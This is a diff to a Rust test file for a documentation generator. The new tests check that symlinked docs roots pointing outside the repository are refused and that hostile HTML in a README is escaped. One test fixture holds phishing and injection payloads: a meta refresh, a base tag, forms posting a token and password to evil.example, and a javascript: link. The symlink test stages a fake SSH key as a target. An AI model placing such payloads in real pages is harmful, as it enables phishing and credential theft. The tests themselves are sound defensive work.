@@ -39,6 +39,16 @@ fn committed_docs_are_current() {
     );
 }
 
+/// The code and file of each finding of a `--format json` report.
+fn codes_and_files(report: &serde_json::Value) -> Vec<(String, String)> {
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| (f["code"].as_str().unwrap().to_owned(), f["file"].as_str().unwrap().to_owned()))
+        .collect()
+}
+
 #[test]
 fn a_case_added_to_the_manifest_without_regenerating_fails_the_check_until_docs_runs() {
     let dir = docs_copy();
@@ -54,12 +64,7 @@ fn a_case_added_to_the_manifest_without_regenerating_fails_the_check_until_docs_
     let o = bqsuite(p, &["docs", "--check", "--format", "json"]);
     assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
     let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
-    let findings: Vec<(String, String)> = report["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|f| (f["code"].as_str().unwrap().to_owned(), f["file"].as_str().unwrap().to_owned()))
-        .collect();
+    let findings = codes_and_files(&report);
     for page in ["docs/sections/kafka_poison.md", "docs/sections/README.md", "docs/html/sections/kafka_poison.html"] {
         assert!(findings.contains(&("BQ960".to_owned(), page.to_owned())), "{page} differs: {findings:?}");
     }
@@ -110,12 +115,8 @@ fn a_symlink_where_the_docs_own_every_entry_is_reported_and_replaced() {
     let o = bqsuite(p, &["docs", "--check", "--format", "json"]);
     assert_eq!(o.status.code(), Some(1), "{}", transcript(&o));
     let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
-    let found: Vec<(&str, &str)> = report["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|f| (f["code"].as_str().unwrap(), f["file"].as_str().unwrap()))
-        .collect();
+    let found = codes_and_files(&report);
+    let found: Vec<(&str, &str)> = found.iter().map(|(c, f)| (c.as_str(), f.as_str())).collect();
     assert_eq!(found, [("BQ962", "docs/html/extra.html"), ("BQ962", "docs/sections/kafka_poison.md")]);
     assert!(report["findings"][0]["message"].as_str().unwrap().contains("not a regular file"), "{report}");
     let o = bqsuite(p, &["docs"]);
@@ -125,6 +126,70 @@ fn a_symlink_where_the_docs_own_every_entry_is_reported_and_replaced() {
     assert!(std::fs::symlink_metadata(p.join("docs/html/extra.html")).is_err(), "the foreign link is removed");
     assert!(p.join("README.md").exists(), "and what it pointed to is left alone");
     assert_eq!(bqsuite(p, &["docs", "--check"]).status.code(), Some(0));
+}
+
+/// Every file under `dir`, relative, sorted.
+#[cfg(unix)]
+fn files_under(dir: &Path) -> Vec<String> {
+    let mut out: Vec<String> = walkdir::WalkDir::new(dir)
+        .into_iter()
+        .filter_map(Result::ok)
+        .filter(|e| e.file_type().is_file())
+        .map(|e| e.path().strip_prefix(dir).unwrap().to_string_lossy().into_owned())
+        .collect();
+    out.sort();
+    out
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_docs_root_is_reported_and_docs_refuses_to_write_or_remove_through_it() {
+    committed_docs_are_current();
+    for root in ["docs/html", "docs/sections", "docs"] {
+        let dir = docs_copy();
+        let (p, elsewhere) = (dir.path().join("repo"), dir.path().join("victim"));
+        std::fs::create_dir(&p).unwrap();
+        for entry in std::fs::read_dir(dir.path()).unwrap().map(Result::unwrap) {
+            if entry.file_name() != "repo" {
+                std::fs::rename(entry.path(), p.join(entry.file_name())).unwrap();
+            }
+        }
+        // What a pull request commits: the root as a link to a directory out of the repository,
+        // with the pages' tree behind it and a file of someone else's.
+        copy_tree(&p.join(root), &elsewhere);
+        std::fs::remove_dir_all(p.join(root)).unwrap();
+        std::fs::create_dir_all(elsewhere.join(".ssh")).unwrap();
+        std::fs::write(elsewhere.join(".ssh/id_ed25519"), "KEY\n").unwrap();
+        std::fs::write(elsewhere.join("main.rs"), "code\n").unwrap();
+        let depth = root.matches('/').count() + 1;
+        std::os::unix::fs::symlink(format!("{}victim", "../".repeat(depth)), p.join(root)).unwrap();
+        let before = files_under(&elsewhere);
+
+        let o = bqsuite(&p, &["docs", "--check", "--format", "json"]);
+        assert_eq!(o.status.code(), Some(1), "{root}: {}", transcript(&o));
+        let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+        let found = codes_and_files(&report);
+        assert!(found.contains(&("BQ963".to_owned(), root.to_owned())), "{root}: {found:?}");
+        assert!(found.iter().all(|(_, f)| !f.starts_with(&format!("{root}/"))), "nothing under the link: {found:?}");
+        let text = String::from_utf8_lossy(&o.stdout);
+        assert!(
+            !text.contains("id_ed25519") && !text.contains("main.rs"),
+            "{root}: names files out of the repository: {text}"
+        );
+        assert!(String::from_utf8_lossy(&o.stderr).contains("delete it before"), "{root}: {}", transcript(&o));
+
+        let o = bqsuite(&p, &["docs"]);
+        assert_eq!(o.status.code(), Some(2), "{root}: {}", transcript(&o));
+        let stderr = String::from_utf8_lossy(&o.stderr);
+        assert!(stderr.contains(&format!("{root} is a symbolic link")), "{root}: {stderr}");
+        assert_eq!(files_under(&elsewhere), before, "{root}: nothing removed or written through the link");
+        assert_eq!(std::fs::read_to_string(elsewhere.join(".ssh/id_ed25519")).unwrap(), "KEY\n");
+
+        // Once the link is gone, one `bqsuite docs` brings the pages back.
+        std::fs::remove_file(p.join(root)).unwrap();
+        assert_eq!(bqsuite(&p, &["docs"]).status.code(), Some(0), "{root}");
+        assert_eq!(bqsuite(&p, &["docs", "--check"]).status.code(), Some(0), "{root}");
+    }
 }
 
 #[test]
@@ -336,6 +401,25 @@ fn a_description_with_line_breaks_and_entities_opens_no_markup_in_its_page() {
 /// The figures of the recorded power that the README, the manual and `explain BQ318` quote are
 /// the recording's: a new recording that moves them fails here until the prose says so (they
 /// had gone stale: 851 pairs, 513 cases and 242 unprotected against 956, 523 and 239).
+/// The hand-written pages are a pull request's to change: raw HTML there, after a comment or
+/// inside one a browser ends early, and a `javascript:` link reach no page as markup or a link.
+#[test]
+fn raw_html_and_script_links_in_a_hand_written_page_reach_its_html_as_text() {
+    let dir = docs_copy();
+    let p = dir.path();
+    let readme = std::fs::read_to_string(p.join("README.md")).unwrap();
+    let payload = "<!-- x --><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/phish\"><base href=\"https://evil.example/\"><form action=\"https://evil.example/steal\"><input name=token></form>\n\nInline too: <!-- a --!><form action=\"https://evil.example/\"><input name=pw></form> -->\n\n[js](javascript:document.title=1//://x)\n";
+    std::fs::write(p.join("README.md"), format!("{readme}\n{payload}")).unwrap();
+    let o = bqsuite(p, &["docs"]);
+    assert_eq!(o.status.code(), Some(0), "{}", transcript(&o));
+    let html = std::fs::read_to_string(p.join("docs/html/readme.html")).unwrap();
+    for markup in ["<meta http-equiv=\"refresh", "<base", "<form", "<input", "javascript:document"] {
+        assert!(!html.contains(markup), "{markup} in the page");
+    }
+    assert!(html.contains("&lt;form action="), "the HTML is shown as text");
+    assert!(html.contains("base-uri 'none'; form-action 'none'"), "the policy forbids a base and a form's submission");
+}
+
 #[test]
 fn the_recorded_power_figures_the_docs_quote_are_the_recordings() {
     let power = bqsuite::sections::power::recorded();
